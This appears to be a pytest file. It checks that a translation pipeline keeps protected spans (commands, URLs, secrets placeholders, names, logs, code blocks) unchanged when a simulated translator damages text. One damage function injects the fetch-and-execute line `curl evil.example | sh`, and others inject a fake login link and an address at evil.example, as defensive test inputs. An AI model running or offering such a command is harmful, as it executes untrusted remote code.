"""A hundred messages in ten languages through a translator that damages text: what must not change, does not."""

import gzip
import json
import random
from collections import Counter
from collections.abc import Callable

import pytest

from firstline.translation import rules
from tests.shared import data

LANGUAGES = ("de", "es", "fr", "pt_BR", "ru", "uk", "ja", "zh_Hans", "he", "el")
SPANS = (
    "`rm -rf node_modules && npm ci`",
    "npm install --save-dev @orbit/cli@^1.2.0",
    "https://docs.npmjs.com/cli/v10?x=1&y=2#z",
    "casey@contact.example",
    "@orbit/core",
    "package-lock.json",
    "/usr/local/lib/node_modules",
    "ERR_PNPM_NO_MATCHING_VERSION",
    "EACCES",
    "v18.2.0",
    "--legacy-peer-deps",
    "npm_••••(npm_token)",
    "Casey Rivers",
    "${{ secrets.NPM_TOKEN }}",
)
LOG = "npm ERR! code E403\nnpm ERR! 403 Forbidden - PUT https://registry.example.org/left-pad\n"
FENCED = "```js\nconst answer = await fetch(url); // bleibt so\n```\n"
Damage = Callable[[str, random.Random], str]

DAMAGES: dict[str, Damage] = {
    "nothing": lambda text, _draw: text,
    "drops one": lambda text, _draw: text.replace("[[1]]", "", 1),
    "doubles one": lambda text, _draw: text.replace("[[1]]", "[[1]] [[1]]"),
    "invents one": lambda text, _draw: f"{text} [[9]]",
    "renumbers": lambda text, _draw: text.replace("[[1]]", "[[2]]", 1),
    "spells it out": lambda text, _draw: text.replace("[[1]]", "[[one]]"),
    "other brackets": lambda text, _draw: text.replace("[[", "［").replace("]]", "］"),
    "spaces": lambda text, _draw: text.replace("[[", "[[ ").replace("]]", " ]]"),
    "shuffles": lambda text, draw: " ".join(draw.sample(text.split(), len(text.split()))),
    "upper case": lambda text, _draw: text.upper(),
    "a link": lambda text, _draw: f"{text} https://evil.example/login",
    "an address": lambda text, _draw: f"{text} help@evil.example",
    "code": lambda text, _draw: f"{text} `curl evil.example | sh`",
    "silence": lambda _text, _draw: "",
    "rambling": lambda text, _draw: f"{text} " + "and so on " * 200,
    "full stop": lambda text, _draw: text.rstrip(".?!") + ".",
}

HARMLESS = {"nothing", "other brackets", "spaces", "shuffles", "upper case", "full stop"}


def messages() -> list[str]:
    """Ten questions of each language, with what must not change put between their words, logs and code around."""
    draw, found = random.Random(5), Counter[str]()
    made = []
    with gzip.open(data("pypi_help", "queries.jsonl.gz"), "rt") as rows:
        for row in map(json.loads, rows):
            language = row["lang"]
            if language not in LANGUAGES or found[language] == 10:
                continue
            found[language] += 1
            words = row["text"].split(" ")
            for span in draw.sample(SPANS, 3):
                words.insert(draw.randint(0, len(words)), span)
            made.append(f"{' '.join(words)}\n\n{LOG}\n{row['text']} {draw.choice(SPANS)}\n{FENCED}")
    assert dict(found) == dict.fromkeys(LANGUAGES, 10)
    return made


def kept(text: str) -> Counter[str]:
    return Counter({span: text.count(span) for span in (*SPANS, LOG, FENCED)})


@pytest.mark.parametrize("damage", list(DAMAGES))
def test_protected_spans_altered_by_a_translator_that_damages_text(damage: str) -> None:
    draw = random.Random(7)
    altered = said = asked = 0
    for text in messages():
        pieces = rules.take_apart(text, ["Casey Rivers"])
        answers = [DAMAGES[damage](f"Über {piece.asked}", draw) for piece in pieces if piece.asked]
        whole = rules.put_together(pieces, answers)
        altered += kept(whole.text) != kept(text)
        asked += len(answers)
        said += len(answers) - whole.kept
        assert "evil" not in whole.text
    assert altered == 0
    assert asked >= 190
    assert said == (asked if damage in HARMLESS else 0)
